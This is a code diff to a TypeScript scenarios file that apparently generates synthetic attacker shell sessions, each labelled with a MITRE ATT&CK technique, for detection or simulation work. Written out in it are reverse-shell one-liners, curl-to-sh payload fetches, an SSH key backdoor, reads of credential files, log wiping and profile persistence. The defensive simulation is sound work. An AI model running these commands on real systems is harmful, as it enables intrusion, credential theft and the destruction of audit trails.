@@ -52,8 +52,9 @@ export const scenarios: readonly Scenario[] = [
     name: 'reverse-shell',
     technique: 'T1059.004',
     entries: anybody,
-    lines: (r) =>
-      r.pick([
+    lines: (r) => {
+      const tool = `${hidden(r)}.sh`;
+      const start = r.pick([
         [`bash -c 'bash -i >& /dev/tcp/${server(r)}/${door(r)} 0>&1'`, 'bash -i'],
         [
           `python3 -c 'import socket,os,pty;s=socket.create_connection(("${server(r)}",${door(r)}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
@@ -64,22 +65,24 @@ export const scenarios: readonly Scenario[] = [
           `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(${door(r)},inet_aton("${server(r)}")));exec("/bin/sh -i")'`,
           '/bin/sh -i',
         ],
-      ]),
+      ]);
+      return [...start, ...lookAround(r), `curl -s http://${server(r)}/lp.sh -o ${tool}`, `+ ${tool}`, `sh ${tool} -a`];
+    },
   },
   {
     name: 'ssh-key',
     technique: 'T1098.004',
     entries: anybody,
     lines: (r, entry) => [
-      `mkdir -p ${homeOf(entry)}/.ssh`,
-      `+ ${homeOf(entry)}/.ssh/authorized_keys`,
-      asRoot(entry, `chmod 600 ${homeOf(entry)}/.ssh/authorized_keys`),
+      asRoot(entry, `mkdir -p ${homeOf(entry)}/.ssh`),
       `curl -s http://${server(r)}/k.pub -o ${hidden(r)}`,
       asRoot(
         entry,
         `sh -c 'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5${mixedText(r, 40)} >> ${homeOf(entry)}/.ssh/authorized_keys'`,
       ),
-      `~ ${homeOf(entry)}/.ssh/authorized_keys`,
+      `+ ${homeOf(entry)}/.ssh/authorized_keys`,
+      asRoot(entry, `chmod 600 ${homeOf(entry)}/.ssh/authorized_keys`),
+      `% rw------- ${homeOf(entry)}/.ssh/authorized_keys`,
     ],
   },
   {
@@ -159,13 +162,17 @@ export const scenarios: readonly Scenario[] = [
     name: 'secrets-in-files',
     technique: 'T1552.001',
     entries: anybody,
-    lines: (r) => [
-      `grep -rniE "(password|secret|aws_access_key|token)[ =:]" /srv /opt /home --include=*.env --include=*.yml`,
-      `find / -name id_ed25519 -o -name "*.pem" -o -name .pgpass`,
-      'cat /home/deploy/.aws/credentials',
-      `cat /home/${r.pick(['deploy', 'runner', 'ansible'])}/.ssh/id_ed25519`,
-      `cat ${r.pick(['/opt/ledger/shared/.env', '/srv/portal/shared/.env', '/srv/shop/shared/.env'])}`,
-    ],
+    lines: (r) => {
+      const kept = hidden(r);
+      return [
+        `grep -rniE "(password|secret|aws_access_key|token)[ =:]" /srv /opt /home --include=*.env --include=*.yml`,
+        `find / -name id_ed25519 -o -name "*.pem" -o -name .pgpass`,
+        'cat /home/deploy/.aws/credentials',
+        `cat /home/${r.pick(['deploy', 'runner', 'ansible'])}/.ssh/id_ed25519`,
+        `cp ${r.pick(['/opt/ledger/shared/.env', '/srv/portal/shared/.env', '/srv/shop/shared/.env'])} ${kept}`,
+        `+ ${kept}`,
+      ];
+    },
   },
   {
     name: 'miner',
@@ -192,17 +199,21 @@ export const scenarios: readonly Scenario[] = [
     name: 'log-wiping',
     technique: 'T1070.002',
     entries: admin,
-    lines: (r) => [
-      `sudo sh -c 'cat /dev/null > /var/log/auth.log'`,
-      '~ /var/log/auth.log',
-      `sudo shred -zu /var/log/${r.pick(['wtmp', 'btmp', 'lastlog'])}`,
-      `- /var/log/wtmp`,
-      'sudo journalctl --rotate',
-      'sudo journalctl --vacuum-time=1s',
-      `ln -sf /dev/null ${'/home/mara'}/.bash_history`,
-      '~ /home/mara/.bash_history',
-      `sudo sed -i /${server(r)}/d /var/log/syslog`,
-    ],
+    lines: (r) => {
+      const log = r.pick(['wtmp', 'btmp', 'lastlog']);
+      return [
+        `sudo sh -c 'cat /dev/null > /var/log/auth.log'`,
+        '~ /var/log/auth.log',
+        `sudo shred -zu /var/log/${log}`,
+        `- /var/log/${log}`,
+        'sudo journalctl --rotate',
+        'sudo journalctl --vacuum-time=1s',
+        'sudo ln -sf /dev/null /root/.bash_history',
+        '~ /root/.bash_history',
+        `sudo sed -i /${server(r)}/d /var/log/syslog`,
+        '~ /var/log/syslog',
+      ];
+    },
   },
   {
     name: 'exfiltration',
@@ -301,13 +312,15 @@ export const scenarios: readonly Scenario[] = [
     name: 'profile-persistence',
     technique: 'T1546.004',
     entries: admin,
-    lines: (r) => [
-      `sudo sh -c 'echo "(curl -s http://${server(r)}/s|sh) 2>/dev/null &" >> /etc/profile.d/${r.pick(['00-locale', 'bash_completion2', 'zz-proxy'])}.sh'`,
-      '+ /etc/profile.d/zz-proxy.sh',
-      `sh -c 'echo "alias sudo=/tmp/.${mixedText(r, 5)}" >> /home/mara/.bashrc'`,
-      '~ /home/mara/.bashrc',
-      '~ /root/.bashrc',
-    ],
+    lines: (r) => {
+      const path = `/etc/profile.d/${r.pick(['00-locale', 'bash_completion2', 'zz-proxy'])}.sh`;
+      return [
+        `sudo sh -c 'echo "(curl -s http://${server(r)}/s|sh) 2>/dev/null &" >> ${path}'`,
+        `+ ${path}`,
+        `sudo sh -c 'echo "alias sudo=/tmp/.${mixedText(r, 5)}" >> /root/.bashrc'`,
+        '~ /root/.bashrc',
+      ];
+    },
   },
   {
     name: 'encoded-dropper',
